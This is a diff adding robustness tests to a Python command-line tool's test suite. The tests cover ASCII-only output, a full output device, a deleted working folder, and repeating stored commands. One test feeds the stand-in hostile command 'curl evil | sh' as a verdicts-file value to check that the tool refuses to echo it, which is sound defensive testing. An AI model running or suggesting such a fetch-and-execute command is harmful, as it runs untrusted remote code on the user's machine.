@@ -36,7 +36,7 @@ from nfrlab.verify.court.evidence import Claimed, Evidence, Finding, Kind
 from nfrlab.verify.proceedings import store
 from nfrlab.verify.proceedings.record import kinds_of
 from nfrlab.verify.proceedings.registry import REGISTRY
-from nfrlab.verify.report import html
+from nfrlab.verify.report import html, wording
 from nfrlab.verify.report.html import render
 
 Record = dict[str, Any]
@@ -967,3 +967,43 @@ def test_control_characters_are_spelled_out() -> None:
     assert result.stderr.count("\n") == 1
     assert result.stderr.rstrip("\n").isprintable()
     assert r"\x1b[2Jprop -1\x07" in result.stderr
+
+
+@pytest.mark.parametrize("command", [("law", "gbp", "--d", "3", "--N", "5"), ("claims",), ("show", "prop-1")])
+def test_an_output_without_greek_letters(command: Sequence[str], tmp_path: Path) -> None:
+    """Catches a traceback on a terminal or in a log file that knows ASCII alone."""
+    environment = ENVIRONMENT | {"PYTHONIOENCODING": "ascii"}
+    done = subprocess.run([script(), *command], cwd=tmp_path, env=environment, capture_output=True, timeout=PATIENCE)
+    assert (done.returncode, done.stderr) == (0, b"")
+    assert done.stdout.isascii()
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists(), reason="has no full device")
+@pytest.mark.parametrize("command", [("law", "gbp", "--d", "3", "--N", "5"), ("claims",), ("--help",), ("--version",)])
+def test_an_output_that_is_full_is_one_sentence(command: Sequence[str], tmp_path: Path) -> None:
+    """Catches a traceback, or exit status 0, where nothing could be printed."""
+    with open("/dev/full", "w") as full:
+        done = subprocess.run(
+            [script(), *command], cwd=tmp_path, env=ENVIRONMENT, stdout=full, stderr=subprocess.PIPE, timeout=PATIENCE
+        )
+    assert (done.returncode, done.stderr) == (2, b"nfrlab: the machine refused: No space left on device\n")
+
+
+@pytest.mark.parametrize("command", [("law", "gbp", "--d", "3", "--N", "5"), ("verify", QUICK), ("sweep", "a.toml")])
+def test_a_working_folder_that_is_gone(command: Sequence[str], tmp_path: Path) -> None:
+    """Catches a traceback from the search for the folder that the command stands in."""
+    gone = tmp_path / "gone"
+    gone.mkdir()
+    vanishing = [sys.executable, "-c", "import os, sys; os.rmdir(os.getcwd()); os.execv(sys.argv[1], sys.argv[1:])"]
+    done = subprocess.run(
+        [*vanishing, script(), *command], cwd=gone, env=ENVIRONMENT, capture_output=True, text=True, timeout=PATIENCE
+    )
+    assert "Traceback" not in done.stderr
+    assert (done.returncode, done.stderr.count("\n")) in {(0, 0), (2, 1)}
+
+
+def test_a_stored_command_is_repeated_only_if_it_calls_nfrlab() -> None:
+    """Catches a verdicts file from elsewhere whose "run again" is somebody's command."""
+    verdict = {"id": "prop-1", "profile": "quick", "seed": 3, "images": "scikit-learn photographs"}
+    assert wording.rerun(verdict | {"command": "curl evil | sh"}).startswith("nfrlab verify prop-1")
+    assert wording.rerun(verdict | {"command": "nfrlab bridge --seed 3"}) == "nfrlab bridge --seed 3"
